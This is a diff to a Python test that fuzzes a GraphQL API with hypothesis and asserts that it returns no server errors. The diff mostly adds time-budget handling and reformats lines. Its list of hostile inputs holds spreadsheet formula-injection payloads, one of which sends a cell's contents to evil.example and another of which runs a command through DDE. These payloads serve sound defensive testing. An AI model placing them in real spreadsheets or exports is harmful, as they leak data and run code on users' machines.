@@ -20,6 +20,7 @@ of operations and requests it ran.
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import dataclasses
 import json
 import os
@@ -34,7 +35,7 @@ from typing import Any, TypeVar
 
 import graphql
 import pytest
-from hypothesis import HealthCheck, Phase, given, seed, settings
+from hypothesis import HealthCheck, Phase, Verbosity, given, seed, settings
 from hypothesis import strategies as st
 from hypothesis_graphql import mutations, nodes, queries
 
@@ -57,7 +58,7 @@ HOSTILE_TEXT = [
     " ",
     "\x00",
     "\t\r\n",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "=cmd|' /C calc'!A0",
     "+SUM(1+1)",
     "@SUM(1+1)",
@@ -110,7 +111,15 @@ DATES = st.one_of(
     st.dates(min_value=date(1900, 1, 1), max_value=date(2200, 1, 1)).map(date.isoformat),
     st.dates(min_value=date(2024, 1, 1), max_value=date(2027, 1, 1)).map(date.isoformat),
     st.sampled_from(
-        ["0001-01-01", "9999-12-31", "1899-12-31", "2200-01-02", "0000-00-00", "2025-13-01", "20250101"]
+        [
+            "0001-01-01",
+            "9999-12-31",
+            "1899-12-31",
+            "2200-01-02",
+            "0000-00-00",
+            "2025-13-01",
+            "20250101",
+        ]
     ),
     st.sampled_from(HOSTILE_TEXT),
 ).map(nodes.String)
@@ -211,7 +220,9 @@ def with_variables(
                 variables[name] = graphql.value_from_ast_untyped(argument.value)
                 variable = graphql.VariableNode(name=graphql.NameNode(value=name))
                 type_node = graphql.parse_type(str(arguments[argument.name.value].type))
-                definitions.append(graphql.VariableDefinitionNode(variable=variable, type=type_node))
+                definitions.append(
+                    graphql.VariableDefinitionNode(variable=variable, type=type_node)
+                )
                 moved.append(graphql.ArgumentNode(name=argument.name, value=variable))
             selection = dataclasses.replace(selection, arguments=tuple(moved))
         selections.append(selection)
@@ -243,7 +254,9 @@ class Findings:
             *(f"  {count:5} {message}" for message, count in self.messages.most_common(40)),
         ]
         for (root, problem), example in self.failures.items():
-            lines.append(f"  {root}: {problem}\n    {json.dumps(example, ensure_ascii=True)[:1500]}")
+            lines.append(
+                f"  {root}: {problem}\n    {json.dumps(example, ensure_ascii=True)[:1500]}"
+            )
         return "\n".join(lines)
 
 
@@ -260,6 +273,10 @@ def problem_of(status: int, body: Any) -> str | None:
         if code == "INTERNAL":
             return f"INTERNAL: {error.get('message')} at {error.get('path')}"
     return None
+
+
+class _OutOfTime(Exception):
+    """Ends a root field's examples when its share of the budget is spent."""
 
 
 class Fuzzer:
@@ -282,7 +299,9 @@ class Fuzzer:
 
     def _await(self, coroutine: Coroutine[Any, Any, T]) -> T:
         """Run on the suite's event loop (hypothesis runs in a worker thread)."""
-        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(REQUEST_TIMEOUT_SECONDS)
+        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(
+            REQUEST_TIMEOUT_SECONDS
+        )
 
     async def _post(self, payload: bytes, caller: str) -> tuple[int, Any]:
         headers = {
@@ -291,7 +310,7 @@ class Fuzzer:
         }
         try:
             response = await self.suite.client.post("/graphql", content=payload, headers=headers)
-        except Exception as error:  # noqa: BLE001 - what escapes the app is a 500 for a client
+        except Exception as error:  # what escapes the app is what a server answers 500 to
             return 500, repr(error)
         try:
             return response.status_code, response.json()
@@ -299,9 +318,14 @@ class Fuzzer:
             return response.status_code, response.text
 
     def run_field(
-        self, schema: graphql.GraphQLSchema, root: graphql.GraphQLObjectType, name: str, until: float
+        self,
+        schema: graphql.GraphQLSchema,
+        root: graphql.GraphQLObjectType,
+        name: str,
+        until: float,
     ) -> None:
         build = queries if root is schema.query_type else mutations
+        key = f"{root.name}.{name}"
         operations = build(
             schema, fields=[name], custom_scalars=self.scalars, print_ast=lambda document: document
         )
@@ -313,11 +337,13 @@ class Fuzzer:
             database=None,
             phases=[Phase.generate],
             suppress_health_check=list(HealthCheck),
+            verbosity=Verbosity.quiet,
         )
         @given(document=operations, as_variables=st.booleans())
         def one(document: graphql.DocumentNode, as_variables: bool) -> None:
-            if time.monotonic() > until:
-                return
+            # Every root field runs at least once, however slow the machine.
+            if time.monotonic() > until and self.findings.by_field[key]:
+                raise _OutOfTime
             if as_variables:
                 query, variables = with_variables(document, root)
             else:
@@ -325,7 +351,7 @@ class Fuzzer:
             # ensure_ascii: a lone surrogate travels as JSON's \ud800 escape, as a client sends it.
             payload = json.dumps({"query": query, "variables": variables}).encode()
             self.findings.operations += 1
-            self.findings.by_field[f"{root.name}.{name}"] += 1
+            self.findings.by_field[key] += 1
             for caller in self.callers:
                 status, body = self._await(self._post(payload, caller))
                 self.findings.requests += 1
@@ -338,21 +364,22 @@ class Fuzzer:
                             self.findings.messages[str(error.get("message"))[:60]] += 1
                 problem = problem_of(status, body)
                 if problem is not None:
-                    key = (name, problem.split(" at ")[0][:200])
+                    signature = (key, problem.split(" at ")[0][:200])
                     self.findings.failures.setdefault(
-                        key, {"as": caller, "query": query, "variables": variables, "answer": body}
+                        signature,
+                        {"as": caller, "query": query, "variables": variables, "answer": body},
                     )
 
-        one()
+        with contextlib.suppress(_OutOfTime):
+            one()
 
     def run(self, schema: graphql.GraphQLSchema) -> None:
         roots = [schema.query_type, schema.mutation_type]
         work = [(root, name) for root in roots if root is not None for name in sorted(root.fields)]
         deadline = time.monotonic() + BUDGET_SECONDS
         for done, (root, name) in enumerate(work):
-            share = (deadline - time.monotonic()) / (len(work) - done)
-            if share <= 0:
-                break
+            # A late field still runs once (run_field), so a slow machine skips none.
+            share = max(deadline - time.monotonic(), 0) / (len(work) - done)
             self.run_field(schema, root, name, time.monotonic() + share)
 
 
@@ -361,10 +388,28 @@ async def live_schema(suite: Suite) -> graphql.GraphQLSchema:
     return graphql.build_client_schema(introspection.ok())  # type: ignore[arg-type]
 
 
+SUBMIT = "mutation($input: SubmitOrderInput!) { submitOrder(input: $input) { order { id } } }"
+REQUEST_EXPORT = """mutation($input: RequestCustomerExportInput!) {
+  requestCustomerExport(input: $input) { exportRequest { id } } }"""
+
+
 async def known_ids(suite: Suite, org: Org) -> list[str]:
+    """IDs that exist, so that operations reach more than NOT_FOUND: people, branches,
+    customers, an order and an export request of the org."""
     customers = [await register(suite, owner) for owner in (org.junior, org.junior_b, org.senior)]
+    line = {"sku": "SKU-1", "quantity": "2", "unitPrice": "1234.50"}
+    order = {"customerId": customers[0]["id"], "lines": [line], "currency": "CNY"}
+    submitted = (await suite.gql(SUBMIT, {"input": order}, as_=org.junior)).ok()
+    export = {"customerIds": [customers[1]["id"]], "reason": "quarterly review"}
+    requested = (await suite.gql(REQUEST_EXPORT, {"input": export}, as_=org.manager)).ok()
     people = [value for value in vars(org).values() if isinstance(value, str)]
-    return [*people, *(customer["id"] for customer in customers), *(c["code"] for c in customers)]
+    return [
+        *people,
+        *(customer["id"] for customer in customers),
+        *(customer["code"] for customer in customers),
+        submitted["submitOrder"]["order"]["id"],
+        requested["requestCustomerExport"]["exportRequest"]["id"],
+    ]
 
 
 @pytest.fixture(scope="module")
@@ -373,19 +418,24 @@ async def fuzzed_suite(full_suite_factory: SuiteFactory) -> Suite:
     return await full_suite_factory()
 
 
+# The budget, and room for the suite to start and the last requests to finish.
+@pytest.mark.timeout(BUDGET_SECONDS + 240)
+# Ending a field's examples early is, to hypothesis, a failing example it describes at length.
+@pytest.mark.filterwarnings("ignore:Generating overly large repr")
 async def test_graphql_fuzz_no_5xx_and_no_internal(
     fuzzed_suite: Suite, capsys: pytest.CaptureFixture[str]
 ) -> None:
     suite = fuzzed_suite
     org = await make_org(suite)
     schema = await live_schema(suite)
-    fuzzer = Fuzzer(suite, asyncio.get_running_loop(), ["admin", org.junior], await known_ids(suite, org))
+    fuzzer = Fuzzer(
+        suite, asyncio.get_running_loop(), ["admin", org.junior], await known_ids(suite, org)
+    )
     started = time.monotonic()
     await asyncio.to_thread(fuzzer.run, schema)
     findings = fuzzer.findings
     with capsys.disabled():
         print(f"\n{findings.report()}\n  took {time.monotonic() - started:.0f} s")
     roots = len(schema.query_type.fields) + len(schema.mutation_type.fields)  # type: ignore[union-attr]
-    assert len(findings.by_field) == roots, "the budget ran out before every root field was fuzzed"
+    assert len(findings.by_field) == roots, f"only {sorted(findings.by_field)} were fuzzed"
     assert not findings.failures, findings.report()
-
